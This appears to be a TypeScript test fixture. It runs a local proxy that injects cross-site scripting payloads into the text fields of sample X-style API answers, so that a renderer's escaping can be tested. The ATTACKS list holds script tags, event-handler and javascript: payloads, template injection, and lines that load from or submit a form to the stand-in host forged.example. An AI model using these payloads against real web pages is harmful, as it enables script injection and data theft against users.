// Serves the sample answers with attacks in every text that people on X write.
import { createServer } from 'node:http';
import { listen, stop } from '../../../infra/local/listen.ts';
import { startSampleServer } from '../../../infra/local/sample-server.ts';

/** Marks what an attack would show, request or run. */
export const FORGED = 'forged';

/** Each would run a script, load something or change the page if a renderer forgot to escape it. */
export const ATTACKS: readonly string[] = [
  `<script>alert('${FORGED}')</script>`,
  `"><img src=x onerror="alert('${FORGED}')">`,
  `' onmouseover='alert(1)' autofocus onfocus='alert(1)`,
  `</title><script>alert('${FORGED}')</script>`,
  `</style><style>@import 'https://${FORGED}.example/a.css';body{display:none}</style>`,
  `--><script>alert(1)</script><!--`,
  `]]><script xmlns="http://www.w3.org/1999/xhtml">alert('${FORGED}')</script>`,
  `<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><rect/></a></svg>`,
  `<iframe src="https://${FORGED}.example/"></iframe><object data="https://${FORGED}.example/"></object>`,
  `<meta http-equiv="refresh" content="0;url=https://${FORGED}.example/"><base href="https://${FORGED}.example/">`,
  `<form action="https://${FORGED}.example/"><input name=key autofocus></form>`,
  `[x](javascript:alert(1)) ![x](https://${FORGED}.example/p.gif) <javascript:alert(1)>`,
  `&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &#x6a;avascript:alert(1)`,
  `javascript:alert('${FORGED}')`,
  `\u202e<b>\u2066${FORGED}\u2069 \u200b\u0000 {{constructor.constructor('alert(1)')()}} \${alert(1)}`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
];

/** Members whose text people write. */
const TEXTS =
  /^(?:text|name|description|location|title|altText|alt_text|label|screen_name_text|display_text|subtitle|summary|note|caption)$/;

let next = 0;

const attacked = (name: string, value: unknown): unknown => {
  if (typeof value === 'string' && TEXTS.test(name)) {
    next += 1;
    return `${ATTACKS[next % ATTACKS.length]} ${value}`;
  }
  if (Array.isArray(value)) return value.map((item) => attacked(name, item));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, member]) => [key, attacked(key, member)]));
};

export type HostileProvider = Awaited<ReturnType<typeof startHostileProvider>>;

/** Listens on a free port of loopback, with the paths of the sample server. */
export const startHostileProvider = async () => {
  const sample = await startSampleServer();
  const server = createServer(async ({ url = '/' }, response) => {
    const answer = await fetch(sample.origin + url);
    const type = answer.headers.get('content-type') ?? '';
    const body = await answer.text();
    response.writeHead(answer.status, { 'content-type': type });
    response.end(type.startsWith('application/json') ? JSON.stringify(attacked('', JSON.parse(body))) : body);
  });
  return {
    origin: await listen(server, '127.0.0.1', 0),
    /** The number of texts that were replaced. */
    attacks: (): number => next,
    close: (): Promise<unknown> => Promise.all([stop(server), sample.close()]),
  };
};
